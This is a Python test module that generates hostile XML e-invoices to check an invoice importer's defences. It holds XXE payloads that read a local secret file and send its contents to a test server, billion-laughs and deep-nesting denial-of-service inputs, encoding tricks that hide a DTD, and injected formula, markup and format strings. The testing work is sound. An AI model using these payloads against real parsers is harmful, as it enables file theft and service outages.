"""Hostile e-invoice XML: entities, other files and servers named, depth, length, strange encodings."""

from __future__ import annotations

from pathlib import Path

from tests import makers
from tests.hostile.cases import EITHER, IMPORT, READ, SECRET, SERVER, case

XML = ".xml"
GOOD = makers.xml(makers.Bill())
_LEVELS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


def with_definition(definition: str, use: str = "") -> bytes:
    """An invoice under a document type definition."""
    return f'<?xml version="1.0"?><!DOCTYPE HDon {definition}><HDon>{use}</HDon>'.encode()


def inside(before: str) -> bytes:
    """A good invoice with something before its first part."""
    return GOOD.replace(b"<HDon>", b"<HDon>" + before.encode(), 1)


@case(IMPORT, XML)
def xml_billion_laughs(path: Path) -> bytes:
    return with_definition(f'[<!ENTITY l0 "ha">{_LEVELS}]', "&l9;")


@case(IMPORT, XML)
def xml_quadratic_blow_up(path: Path) -> bytes:
    return with_definition(f'[<!ENTITY a "{"a" * 100_000}">]', "&a;" * 100_000)


@case(IMPORT, XML)
def xml_entity_of_a_file(path: Path) -> bytes:
    return with_definition(f'[<!ENTITY a SYSTEM "{(path.parent / SECRET).as_uri()}">]', "&a;")


@case(IMPORT, XML)
def xml_entity_of_a_server(path: Path) -> bytes:
    return with_definition(f'[<!ENTITY a SYSTEM "{SERVER}">]', "&a;")


@case(IMPORT, XML)
def xml_parameter_entities(path: Path) -> bytes:
    secret = (path.parent / SECRET).as_uri()
    return with_definition(f'[<!ENTITY % f SYSTEM "{secret}"><!ENTITY % e "<!ENTITY s SYSTEM \'{SERVER}?%f;\'>">%e;]')


@case(IMPORT, XML)
def xml_definition_on_a_server(path: Path) -> bytes:
    return with_definition(f'SYSTEM "{SERVER}"')


@case(IMPORT, XML)
def xml_public_definition(path: Path) -> bytes:
    return with_definition(f'PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "{SERVER}"')


@case(IMPORT, XML, READ)
def xml_includes_a_file(path: Path) -> bytes:
    href = (path.parent / SECRET).as_uri()
    return inside(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{href}" parse="text"/>')


@case(IMPORT, XML, READ)
def xml_names_schemas_and_a_style_sheet_on_a_server(path: Path) -> bytes:
    head = f'<?xml-stylesheet type="text/xsl" href="{SERVER}"?>'
    where = f' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x {SERVER}"'
    return GOOD.replace(b"<HDon>", f"{head}<HDon{where}>".encode(), 1)


@case(IMPORT, XML)
def xml_100000_attributes(path: Path) -> bytes:
    attributes = " ".join(f'a{n}="x"' for n in range(100_000))
    return GOOD.replace(b"<HDon>", f"<HDon {attributes}>".encode(), 1) + b"<"


@case(IMPORT, XML, EITHER)
def xml_attribute_of_9_megabytes(path: Path) -> bytes:
    return GOOD.replace(b"<HDon>", b'<HDon a="' + b"x" * 9_000_000 + b'">', 1)


@case(IMPORT, XML)
def xml_a_million_deep(path: Path) -> bytes:
    return b"<a>" * 1_000_000 + b"</a>" * 1_000_000


@case(IMPORT, XML)
def xml_50000_deep(path: Path) -> bytes:
    return b"<HDon>" * 50_000 + b"</HDon>" * 50_000


@case(IMPORT, XML, EITHER, slow=True)
def xml_text_of_9_megabytes(path: Path) -> bytes:
    return GOOD.replace("Dịch vụ quảng cáo".encode(), "ạ".encode() * 3_000_000, 1)


@case(IMPORT, XML, EITHER)
def xml_marks_that_sort_slowly(path: Path) -> bytes:
    """Normalising a run of marks in the wrong order takes the square of its length."""
    return GOOD.replace("Dịch vụ quảng cáo".encode(), ("a" + "\u0301\u0323" * 1_000_000).encode(), 1)


@case(IMPORT, XML)
def xml_that_lies_about_its_encoding(path: Path) -> bytes:
    return '<?xml version="1.0" encoding="UTF-8"?><HDon>Đặng</HDon>'.encode("utf-16")


@case(IMPORT, XML)
def xml_latin_bytes_called_utf_8(path: Path) -> bytes:
    return GOOD.replace("Mây".encode(), b"M\xe2y")


@case(IMPORT, XML)
def xml_utf_7_hides_a_definition(path: Path) -> bytes:
    hidden = f'<!DOCTYPE HDon [<!ENTITY a SYSTEM "{SERVER}">]><HDon>&a;</HDon>'.encode("utf-7")
    return b'<?xml version="1.0" encoding="UTF-7"?>' + hidden


@case(IMPORT, XML)
def xml_utf_16_hides_a_definition(path: Path) -> bytes:
    text = f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE HDon [<!ENTITY a SYSTEM "{SERVER}">]><HDon>&a;</HDon>'
    return text.encode("utf-16")


@case(IMPORT, XML)
def xml_ebcdic_hides_a_definition(path: Path) -> bytes:
    return '<?xml version="1.0" encoding="cp037"?><!DOCTYPE HDon [<!ENTITY a "b">]><HDon>&a;</HDon>'.encode("cp037")


@case(IMPORT, XML)
def xml_encodings_that_unpack(path: Path) -> bytes:
    return b'<?xml version="1.0" encoding="zlib_codec"?><HDon/>'


@case(IMPORT, XML)
def xml_utf_32(path: Path) -> bytes:
    return GOOD.decode().replace("UTF-8", "UTF-32").encode("utf-32")


@case(IMPORT, XML)
def xml_with_nul_bytes(path: Path) -> bytes:
    return GOOD.replace(b"<THHDVu>", b"<THHDVu>\0\0\0", 1)


@case(IMPORT, XML, EITHER)
def xml_100000_instructions(path: Path) -> bytes:
    return inside('<?xml-stylesheet href="x"?>' * 100_000)


@case(IMPORT, XML, EITHER)
def xml_9_megabytes_of_comment(path: Path) -> bytes:
    return inside("<!--" + " x" * 4_500_000 + "-->")


@case(IMPORT, XML, EITHER)
def xml_50000_name_spaces(path: Path) -> bytes:
    return inside("".join(f'<a{n} xmlns:n{n}="urn:{n}"/>' for n in range(50_000)))


@case(IMPORT, XML, EITHER)
def xml_name_spaces_held_open(path: Path) -> bytes:
    depth = 20_000
    return inside(
        "".join(f'<n{n}:a xmlns:n{n}="urn:{n}">' for n in range(depth))
        + "".join(f"</n{n}:a>" for n in reversed(range(depth)))
    )


@case(IMPORT, XML)
def xml_larger_than_is_read(path: Path) -> None:
    with path.open("wb") as file:
        file.write(GOOD)
        file.truncate(300_000_000)


@case(IMPORT, XML)
def xml_numbers_of_a_million_digits(path: Path) -> bytes:
    return GOOD.replace(b"<TgTTTBSo>", b"<TgTTTBSo>" + b"9" * 1_000_000, 1)


@case(IMPORT, XML, EITHER)
def xml_invoice_number_of_5000_digits(path: Path) -> bytes:
    return makers.xml(makers.Bill(number="7" * 5000))


@case(IMPORT, XML, EITHER)
def xml_formulas_markup_and_reversed_text(path: Path) -> bytes:
    evil = (
        '=HYPERLINK("http://x.invalid","y")',
        "<img src='file:///etc/passwd'>",
        "\u202etxt.exe",
        "{0.__class__}",
        "%n%s",
    )
    return makers.xml(
        makers.Bill(buyer=(evil[3], makers.BUYERS[0][1]), lines=[makers.L(1000, name=text) for text in evil])
    )


@case(IMPORT, XML)
def xml_placeholders_where_numbers_stand(path: Path) -> bytes:
    return makers.xml(makers.Bill(currency="{x}", symbol="{0}"))


@case(IMPORT, XML, EITHER)
def xml_10_megabytes_of_lines(path: Path) -> bytes:
    return makers.xml(makers.Bill(lines=[makers.L(1000)] * 11_000))


@case(IMPORT, XML, EITHER, slow=True)
def xml_70000_invoices_in_one_file(path: Path) -> bytes:
    body = b"<DLHDon><TTChung/></DLHDon>"
    return b"<a>" + body * 29_000 + b"</a>"


@case(IMPORT, XML, EITHER, slow=True)
def xml_invoices_within_invoices(path: Path) -> bytes:
    """Every search within an invoice goes through all that it holds: the square of the depth."""
    depth = 10_000
    head = b"<DLHDon><TTChung><KHHDon>C26TAA</KHHDon><SHDon>1</SHDon></TTChung>"
    return head * depth + b"</DLHDon>" * depth


@case(IMPORT, XML, EITHER, slow=True)
def xml_many_invoices_that_hold_many_lines(path: Path) -> bytes:
    """Invoices that hold each other, each looking at all the lines of the innermost."""
    head = GOOD[GOOD.index(b"<DLHDon") : GOOD.index(b"<DSHHDVu>")]
    tail = GOOD[GOOD.index(b"</DSHHDVu>") : GOOD.index(b"</DLHDon>")]
    depth, lines = 900, b"<HHDVu><ThTien>1</ThTien></HHDVu>" * 10_000
    opening = head + b"<DSHHDVu></DSHHDVu>" + tail.replace(b"</DSHHDVu>", b"")
    return b"<HDon>" + opening * depth + lines + b"</DLHDon>" * depth + b"</HDon>"
